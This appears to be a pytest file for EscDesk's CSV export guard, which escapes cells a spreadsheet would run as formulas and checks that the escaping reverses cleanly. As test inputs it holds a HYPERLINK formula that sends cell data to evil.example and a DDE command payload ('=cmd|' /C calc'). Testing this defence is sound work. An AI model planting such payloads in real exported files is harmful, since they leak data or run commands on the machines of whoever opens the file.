"""The formula guard of the CSV files EscDesk writes: a cell a spreadsheet would run gets a leading quote (OWASP),
numbers stay numbers, and EscDesk's own importers undo exactly that quote."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from escdesk.csv_cells import protect_cell, protect_record, protect_row, restore_cell, restore_record
from escdesk.directory import DirectoryPerson, PersonEntry
from escdesk.directory_csv import export_csv, read_csv
from escdesk.metrics.tables import Row, Table, to_csv
from escdesk.policy import default_policy

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-5 discount", "'-5 discount"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),  # reversible: read back as it was given
        ("Müller & Söhne", "Müller & Söhne"),
        ("a=b", "a=b"),
        ("'tis", "'tis"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_get_a_quote(text: str, written: str) -> None:
    assert protect_cell(text) == written
    assert restore_cell(written) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab 1"), max_size=8))
def test_restore_undoes_protect_for_every_text(text: str) -> None:
    assert restore_cell(protect_cell(text)) == text


def test_numeric_columns_are_left_as_numbers() -> None:
    assert protect_row(["-5", -5, "-x"], numeric={0, 1}) == ["-5", "-5", "'-x"]
    record = {"customer": "-Acme", "customer_arr": "-5"}
    written = protect_record(record, {"customer_arr"})
    assert written == {"customer": "'-Acme", "customer_arr": "-5"}
    assert restore_record(written, {"customer_arr"}) == record


def test_the_metrics_csv_quotes_text_but_not_numbers() -> None:
    table = Table("t", "T", ("customer", "delta", "arr"), (Row((HYPERLINK, -5, None)),))
    (header, row) = list(csv.reader(io.StringIO(to_csv(table))))
    assert header == ["customer", "delta", "arr"]
    assert row == ["'" + HYPERLINK, "-5", ""]


def test_the_directory_csv_quotes_formulas_and_reads_them_back() -> None:
    people = [DirectoryPerson("=cmd|' /C calc'!A0", "x@example.com", "@boss", ())]
    text = export_csv(people)
    (_, row) = list(csv.reader(io.StringIO(text)))
    assert row[0] == "'=cmd|' /C calc'!A0" and row[2] == "'@boss"
    assert read_csv(text, default_policy()) == [PersonEntry("=cmd|' /C calc'!A0", "x@example.com", "@boss", ())]
